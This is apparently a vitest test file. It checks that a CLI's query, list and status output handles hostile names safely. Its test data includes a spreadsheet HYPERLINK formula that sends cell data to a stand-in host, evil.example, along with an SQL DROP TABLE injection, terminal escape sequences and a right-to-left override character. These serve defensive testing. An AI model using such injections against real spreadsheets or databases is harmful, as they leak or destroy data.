/** The data in the result of a query can do no harm. */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { aWorld } from '../../cli/world.ts';
import { duckdb } from '../../support/referee.ts';

/** Names of a hostile source. */
const hostileNames = [
  'a,b',
  'quoted "name"',
  'two\r\nlines',
  'two\nlines',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "'; DROP TABLE quality_instances; --",
  '\u001b[2Jcleared\u001b]0;title\u0007',
  '\u202egnp.exe',
  '\u2028',
  '\u{1F600}',
];

describe('query', () => {
  it('returns hostile names unchanged in CSV and JSON, one row each, and escaped in a table', async () => {
    const world = await aWorld();
    const startTimeMs = world.simulator.clock.now() - 3_600_000;
    for (const [index, name] of hostileNames.entries()) {
      world.simulator.life.addExecution({ name, startTimeMs: startTimeMs + index });
    }
    expect((await world.cli(['sync'])).exitCode).toBe(0);
    const select = 'SELECT name, id FROM quality_instances ORDER BY start_time';
    const csv = await world.cli(['query', '--csv', select]);
    const file = join(world.folder, 'out.csv');
    await writeFile(file, csv.stdout);
    const read =
      await duckdb(`FROM read_csv('${file}', header = true, all_varchar = true, new_line = '\\n', auto_detect = false,
      columns = {'name': 'VARCHAR', 'id': 'VARCHAR'}, delim = ',', quote = '"', escape = '"', allow_quoted_nulls = false)`);
    expect(read.map((row) => row['name'])).toEqual(hostileNames);
    const json = JSON.parse((await world.cli(['query', '--json', select])).stdout);
    expect(json.map((row: { name: string }) => row.name)).toEqual(hostileNames);
    for (const command of [['query', select], ['list'], ['status']]) {
      const { stdout, stderr, exitCode } = await world.cli(command);
      expect(exitCode).toBe(0);
      expect(stdout + stderr).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u);
    }
  });
});
